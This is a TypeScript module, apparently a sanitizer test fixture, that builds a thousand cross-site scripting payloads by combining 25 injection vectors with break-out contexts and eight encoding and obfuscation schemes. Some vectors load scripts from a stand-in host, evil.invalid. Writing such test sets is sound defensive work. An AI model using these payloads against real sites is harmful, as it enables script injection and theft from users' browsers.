// Hostile texts: every vector in every context and encoding, a thousand in all. Each would set `__pwned` or raise an alert.

const CODE = 'window.__pwned=1;alert(1)';

/** Ways in which markup, links or templates run code. */
export const vectors = [
  `<script>${CODE}</script>`,
  `<script src=//evil.invalid/x.js></script>`,
  `<img src=x onerror="${CODE}">`,
  `<img/src/onerror=${CODE}//`,
  `<svg onload="${CODE}"></svg>`,
  `<svg><animate onbegin="${CODE}" attributeName=x dur=1s>`,
  `<svg><script>${CODE}</script></svg>`,
  `<math><a xlink:href="javascript:${CODE}">x</a></math>`,
  `<iframe srcdoc="<script>parent.${CODE}</script>"></iframe>`,
  `<iframe src="javascript:${CODE}"></iframe>`,
  `<object data="data:text/html,<script>${CODE}</script>"></object>`,
  `<embed src="javascript:${CODE}">`,
  `<a href="javascript:${CODE}">open</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" onclick="alert(1)">open</a>`,
  `<body onload="${CODE}">`,
  `<input autofocus onfocus="${CODE}">`,
  `<details open ontoggle="${CODE}">x</details>`,
  `<video><source onerror="${CODE}"></video>`,
  `<form action="javascript:${CODE}"><button>x</button></form>`,
  `<base href="//evil.invalid/"><link rel=stylesheet href="javascript:${CODE}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CODE}">`,
  `<style>@import "//evil.invalid/x.css";*{background:url(javascript:${CODE})}</style>`,
  `[open](javascript:${CODE}) ![x](x" onerror="${CODE})`,
  `{{constructor.constructor('${CODE}')()}}\${${CODE}}<%= ${CODE} %>`,
  `javascript:/*"'<!--*/${CODE}`,
];

/** What a text may have to break out of first. */
const contexts: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `"><b x="'>${vector}`,
  (vector) => `</title></textarea></script></style>-->]]>${vector}`,
  (vector) => `x" onmouseover="${CODE}" onfocus='${CODE}' y="${vector}`,
  (vector) => `Metformin 500 mg\n\n${vector}\t\u{1F48A}`,
];

const eachLetter = (write: (letter: string) => string) => (text: string) => text.replaceAll(/[<>"'&:]/g, write);
const code = (letter: string) => letter.codePointAt(0) ?? 0;
const named: Readonly<Record<string, string>> = {
  '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&apos;', '&': '&amp;', ':': '&colon;',
};

/** Ways to write the same that something may undo on the way. */
const encodings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/[a-z]/g, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter)),
  eachLetter((letter) => named[letter] ?? letter),
  eachLetter((letter) => `&#x${code(letter).toString(16)};`),
  eachLetter((letter) => `%${code(letter).toString(16)}`),
  eachLetter((letter) => `\\u00${code(letter).toString(16)}`),
  // Letters that some readers skip, and letters that some readers take for others.
  (text) => text.replaceAll(/script|on/g, (word) => `${word[0] ?? ''}\u200b\u00ad${word.slice(1)}`),
  (text) => text.replaceAll(/[<>"']/g, (letter) => String.fromCodePoint(code(letter) + 0xfee0)),
];

export const payloads: readonly string[] = vectors.flatMap((vector) =>
  contexts.flatMap((context) => encodings.map((encode) => encode(context(vector)))),
);
